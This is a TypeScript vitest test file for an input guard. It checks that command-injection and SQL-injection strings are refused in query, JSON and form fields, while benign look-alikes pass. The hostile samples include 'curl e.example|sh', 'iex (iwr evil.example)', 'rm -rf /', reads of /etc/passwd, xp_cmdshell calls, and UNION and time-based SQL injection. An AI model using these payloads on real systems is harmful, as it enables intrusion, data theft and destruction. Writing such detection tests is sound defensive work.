// What reads as a command or a condition and is a list, a sum or an argument's name; beside each what a shell or a database
// would run that looks alike. At sensitivity 1, in a query, a leaf of JSON and a form.

import { describe, expect, test } from 'vitest'

import { refusing } from '../corpora/guard.ts'

const isRefused = refusing()

const PLACES = ['query', 'json', 'form']

interface Decision {
  readonly hostile: readonly string[]
  readonly honest: readonly string[]
}

const DECISIONS: Readonly<Record<string, Decision>> = {
  'endings of files between pipes (CWE-78)': {
    hostile: [
      'x|id|sh|a',
      'a|echo|sh|x',
      'a|rev|sh|c',
      'png||sh|x',
      'x|png\nid|sh|x',
      'x|png|sh|id',
      'x;reboot|png|sh|x',
      'a|txt|bash|curl e.example',
      'x|js|sh|y',
      'echo id|bat|sh|y',
      'x|py|sh|y',
      'x|tsx|bash|y',
      'x|json|sh|y',
      'x;curl e.example|sh|x',
    ],
    honest: [
      String.raw`\.(js|css|png|psd|sh|sql)$`,
      '(js|css|png|psd|sh|sql)',
      'arc|sit|tar|tbz|tgz|gz|gzip|jar',
      'csv|deb|dmg|doc|\nexe|flv|gif|gz|gzip|hqx|jar',
      'only (html|css|bash|sql) is shown',
    ],
  },
  'the variables of a block of Ruby’s, as error reports show them (CWE-78)': {
    hostile: [
      'x do |id|',
      'a.b do |whoami|',
      'a.b do |reboot|',
      'a.b do |env|',
      'a.b do |cmd|',
      'reboot a.b do |script|',
      'rm a.b do |sh|',
      '!id a.b do |ex|',
      'a.b; do |id|',
      'a.b\nx do |id|',
      'a.b $(id) do |id|',
      'a.b do |id|sh',
      'a.b do |id|\nwhoami',
      'a.b { |id| whoami }',
      'a.b { |id|curl e.example|sh }',
      'a.b&reboot&c.d do |id|',
      'my_x | sh do |id|',
      'a_b > x do |sh|',
      'a.b do |id|\nend\nwhoami',
      'a.b do |id|\nend\ncurl http://e.example/x',
    ],
    honest: [
      'config.around(:each) do |ex|',
      'users.each do |id|',
      '  list.map(&:name).each do |file|',
      'rows.find_all { |id| id.even? }',
      'path.open(mode) do |file|',
      'with_provider_connection do |service|',
      'x.with_connection(:service => :CloudFormation) do |service|',
    ],
  },
  'what a call answers, as error reports show the line (CWE-78)': {
    hostile: [
      'rm = -rf /',
      'rm = $(id)',
      'rm = a(b); whoami',
      'rm = a(whoami)',
      'ls = a(& calc)',
      'ls = a([io.file]::delete)',
      'curl = http://evil.example/x',
      'curl = evil.example/a(b)',
      'cat = /etc/passwd (a)',
      'sh = x (b)',
      "'dd = of=/dev/sda (x",
      'bash = a(b) || whoami',
      'cat = a(b) | sh',
      'iex = (iwr evil.example)',
    ],
    honest: [
      'dd = append(list, d)',
      'ss = Snapshot.find_by_id(selected)',
      'cmd := tf.statePull(ctx)',
      '  mv := w.valPop()',
    ],
  },
  'fields of GraphQL’s and filters of Go’s (CWE-78)': {
    hostile: [
      '{\nenv\nset\n}',
      '{\nid\nhostname\n}',
      '{\nsh\nx\n}',
      '{\nkubectl\nid\n}',
      'x|md5sum }} >index.php',
      'x|md5sum }} `wget x`',
      'x | sha256sum | `id`',
      '1 | date "010112002030" | x',
    ],
    honest: ['{\nid\nname\n}', '{{ .Data | sha256sum }}', '{{ .Time | date "2006-01-02" }}'],
  },
  'a query of SPARQL’s whose head is quoted away, and a word that compares (CWE-89)': {
    hostile: [
      'select id [ as ?x {] from items union all select password from users',
      'select name [ as ?x {], sql from sqlite_master',
      'select $$ as ?x {$$, usename, passwd from pg_shadow',
      'SELECT 1 [ as ?x {] EXEC master.dbo.xp_cmdshell [net user]',
      "a:'like'",
      'a:"rlike"',
    ],
    honest: [
      'SELECT (COUNT(*) AS ?n) { ?s ?p ?o }',
      'SELECT (COUNT(*) AS ?n) { { ?s a ?t } UNION { ?s ?p ?t } }',
      'state:"OR"',
      "Teachers' union from Chicago and firemen",
      "the workers' union from Ohio",
    ],
  },
  'a sum behind a pipe, where something is set (CWE-78)': {
    hostile: [
      'set whoami; $1',
      'set id|$1',
      'set x; set -- id; $@',
      'set a id;$1$2',
      '1;set python3;$1.11 /tmp/x.py',
    ],
    honest: [
      'Amounts are set below.\n\n| Team | $1,850 |\n| Guest | $1,050 |\n',
      'we set Company-wide | $1,000 and Team | $1,850',
    ],
  },
  'the name of an argument, which compares nothing (CWE-89)': {
    hostile: [
      "x' or 'a'='a",
      '1 or 1>=1',
      "x' <=> 'x",
      "1 and 1=dbms_pipe.receive_message(pipename=>'a',timeout=>10)",
      "x';begin dbms_scheduler.create_job(job_name=>'a',job_type=>'EXECUTABLE');end;--",
      "' or pg_sleep(secs => 5)--",
      '1 union select * from table(generator(rowcount=>10))--',
    ],
    honest: [
      "or array('mymetric' => 'mymetric')<a",
      "eg array('13' => 'nb_pageviews') or array('mymetric' => 'mymetric')",
      "and Report(name => 'x')",
      "{ 'a' => 1, 'or' => 'b' }",
    ],
  },
}

const judgedElse = (texts: readonly string[], refused: boolean): readonly string[] =>
  texts.flatMap((text) =>
    PLACES.filter((place) => isRefused(place, text) !== refused).map((place) => `${place} ${text}`),
  )

describe.each(Object.entries(DECISIONS))('%s', (_, { hostile, honest }) => {
  test('what would run is refused', () => {
    expect(judgedElse(hostile, true)).toEqual([])
  })

  test('what a list, a table or a program says passes', () => {
    expect(judgedElse(honest, false)).toEqual([])
  })
})
